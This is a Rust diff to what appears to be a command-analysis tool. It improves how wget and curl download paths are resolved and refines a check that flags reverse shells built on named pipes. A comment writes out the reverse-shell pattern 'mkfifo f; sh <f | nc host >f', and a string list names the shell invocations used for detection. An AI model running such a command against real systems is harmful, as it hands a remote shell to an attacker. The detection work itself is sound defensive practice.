@@ -19,6 +19,7 @@ impl Walk<'_, '_, '_> {
         let mut next = call.arguments.iter().peekable();
         let wget = call.name == "wget";
         let mut to_stdout = false;
+        let mut directory: Option<String> = None;
         while let Some(argument) = next.next() {
             let (option, joined) = match argument.text.split_once('=') {
                 Some((option, value)) if option.starts_with("--") => {
@@ -84,6 +85,7 @@ impl Walk<'_, '_, '_> {
                 }
                 "-O" | "--remote-name" | "-J" | "-LO" | "-sLO" | "-fsSLO" | "-OL" | "-LOs"
                 | "-fLO" | "-sSLO" | "-sO" => saved = Some("<remote-name>".to_owned()),
+                "-P" | "--directory-prefix" if wget => directory = Some(take().text),
                 "-X" | "--request" | "-m" | "--max-time" | "--connect-timeout" | "-w"
                 | "--write-out" | "--retry" | "-c" | "--cookie-jar" | "-E" | "--cert" | "--key"
                 | "--cacert" | "-x" | "--proxy" | "--resolve" | "-D" | "--dump-header" | "-P"
@@ -198,14 +200,12 @@ impl Walk<'_, '_, '_> {
         match saved {
             Some(path) => {
                 let path = if path == "<remote-name>" {
-                    address
-                        .rsplit('/')
-                        .next()
-                        .unwrap_or_default()
-                        .split('?')
-                        .next()
-                        .unwrap_or_default()
-                        .to_owned()
+                    let last = address.rsplit('/').next().unwrap_or_default();
+                    let file = last.split('?').next().unwrap_or_default();
+                    match directory {
+                        Some(directory) => format!("{}/{file}", directory.trim_end_matches('/')),
+                        None => file.to_owned(),
+                    }
                 } else {
                     path
                 };
@@ -278,11 +278,14 @@ impl Walk<'_, '_, '_> {
         );
         self.report_some(at, found);
         // The far end's commands come back through a named pipe: `mkfifo f; sh <f | nc host >f`.
-        if self.source.contains("mkfifo")
-            && ["sh -i", "bash -i", "/bin/sh", "/bin/bash", "| sh", "|sh", "| bash"]
-                .iter()
-                .any(|shell| self.source.contains(shell))
-        {
+        let source = self.source;
+        let shell_on_pipe = *self.shell_on_pipe.get_or_init(|| {
+            source.contains("mkfifo")
+                && ["sh -i", "bash -i", "/bin/sh", "/bin/bash", "| sh", "|sh", "| bash", "bash <"]
+                    .iter()
+                    .any(|shell| source.contains(shell))
+        });
+        if shell_on_pipe {
             self.shell_to(&address, at);
         }
     }
